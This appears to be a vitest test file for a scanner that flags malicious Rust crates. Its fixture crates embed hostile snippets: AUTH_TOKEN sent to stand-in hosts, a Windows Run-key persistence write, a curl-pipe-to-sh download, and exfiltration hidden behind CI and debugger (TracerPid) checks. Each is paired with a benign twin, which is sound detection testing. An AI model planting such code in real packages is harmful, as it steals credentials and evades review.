// How far an explicit trigger and a guard reach, through the real scanner: a documented pub fn is
// an explicit call only for what its name or doc says it does, and an anti-analysis check asked
// of a helper predicate gates its caller as an inline check does. Each case has a benign twin that
// differs only in the name, the stated purpose or what the helper checks.
import { describe, expect, it } from 'vitest';
import { manifest, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
import { atLeast } from '../types.js';
import type { ScanReport } from '../types.js';

const high = (r: ScanReport) => r.verdict !== 'clean' && atLeast(r.verdict, 'high');
const src = (...lines: string[]) => lines.join('\n');

describe('an explicit call covers what its name says', () => {
  const sender = (doc: string, name: string) => ({
    'Cargo.toml': manifest('panicky', { package: 'description = "Friendlier panic messages"' }),
    'src/lib.rs': src(
      `/// ${doc}`,
      `pub fn ${name}() {`,
      '    let token = std::env::var("AUTH_TOKEN").unwrap_or_default();',
      '    let _ = ureq::post("http://192.0.2.45:8545/").send_string(&token);',
      '    std::panic::set_hook(Box::new(|_| {}));',
      '}',
    ),
  });

  it('a documented install() that also sends a secret is ordinary API doing it unasked', async () => {
    const r = await scanFiles(sender('Installs the panic hook.', 'install'));
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(r.findings.find((f) => f.ruleId === 'flow.exfiltration')?.evidence).toContain(
      'not named or documented for this',
    );
  });

  it('benign twin: a documented upload() sending it is the call the user makes', async () => {
    const r = await scanFiles(sender('Uploads the token to the configured collector.', 'upload'));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
    expect(high(r)).toBe(false);
  });

  const enabler = (description: string) => ({
    'Cargo.toml': manifest('dpi-helper', { package: `description = "${description}"` }),
    'src/lib.rs': src(
      'use std::process::Command;',
      '/// Turns the setting on for this process.',
      'pub fn enable() {',
      '    let _ = Command::new("reg")',
      '        .args(["add", "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", "/v", "Helper", "/d"])',
      '        .arg(std::env::current_exe().unwrap())',
      '        .status();',
      '}',
    ),
  });

  it('a documented enable() of something else that writes a Run key is reported high', async () => {
    const r = await scanFiles(enabler('Per-monitor DPI awareness for Windows processes'));
    expect(high(r)).toBe(true);
    expect(worst(r, 'flow.persistence')).toBe('high');
  });

  it('benign twin: the same enable() in a crate that says it starts apps at login', async () => {
    const r = await scanFiles(enabler('Start your application at login on Windows'));
    expect(high(r)).toBe(false);
  });
});

describe('an explicit call runs a download only when it says it fetches', () => {
  const runner = (doc: string, name: string) => ({
    'Cargo.toml': manifest('termfix'),
    'src/lib.rs': src(
      'use std::process::Command;',
      `/// ${doc}`,
      `pub fn ${name}() {`,
      '    let _ = Command::new("sh").args(["-c", "curl -fsSL https://get.example/i-FAKE-DO-NOT-RUN | sh"]).status();',
      '}',
    ),
  });

  it('a documented enable() that pipes a download into a shell is ordinary API doing it', async () => {
    const r = await scanFiles(runner('Enables colour output.', 'enable'));
    expect(worst(r, 'flow.download-exec')).toBe('high');
  });

  it('benign twin: a documented self_update() is the call that fetches and runs the installer', async () => {
    const r = await scanFiles(runner('Fetches the installer script and runs it.', 'self_update'));
    expect(worst(r, 'flow.download-exec')).toBe('medium');
  });
});

describe('guards asked of a helper predicate or made by a caller', () => {
  const gated = (helper: string) => ({
    'Cargo.toml': manifest('tokparse'),
    'src/lib.rs': src(
      'fn quiet() -> bool {',
      `    ${helper}`,
      '}',
      'pub fn parse(s: &str) -> usize {',
      '    if !quiet() { return s.len(); }',
      '    let token = std::env::var("AUTH_TOKEN").unwrap_or_default();',
      '    let _ = ureq::post("https://collect.example/t").send_string(&token);',
      '    s.len()',
      '}',
    ),
  });

  it('a CI check inside a helper raises the flow it gates', async () => {
    const r = await scanFiles(
      gated('std::env::var_os("CI").is_none() && std::env::var_os("GITHUB_ACTIONS").is_none()'),
    );
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(r.findings.find((f) => f.ruleId === 'flow.exfiltration')?.evidence).toContain(
      'guarded by checks CI',
    );
  });

  it('benign twin: the helper checks an opt-in setting, not the environment it runs in', async () => {
    const r = await scanFiles(gated('std::env::var_os("TOKPARSE_SYNC").is_some()'));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
    expect(high(r)).toBe(false);
  });

  const caller = (check: string) => ({
    'Cargo.toml': manifest('tokparse'),
    'src/lib.rs': src(
      'mod sync;',
      'pub fn parse(s: &str) -> usize {',
      `    if ${check} { return s.len(); }`,
      '    sync::push();',
      '    s.len()',
      '}',
    ),
    'src/sync.rs': src(
      'pub(crate) fn push() {',
      '    let token = std::env::var("AUTH_TOKEN").unwrap_or_default();',
      '    let _ = ureq::post("https://collect.example/t").send_string(&token);',
      '}',
    ),
  });

  it('a tracer check in the caller that leads to the flow raises it', async () => {
    const r = await scanFiles(
      caller(
        'std::fs::read_to_string("/proc/self/status").unwrap_or_default().lines().any(|l| l.starts_with("TracerPid:") && !l.ends_with("\\t0"))',
      ),
    );
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(r.findings.find((f) => f.ruleId === 'flow.exfiltration')?.evidence).toContain('TracerPid');
  });

  it('benign twin: the caller checks its input, not whether it is watched', async () => {
    const r = await scanFiles(caller('s.is_empty()'));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
    expect(high(r)).toBe(false);
  });
});
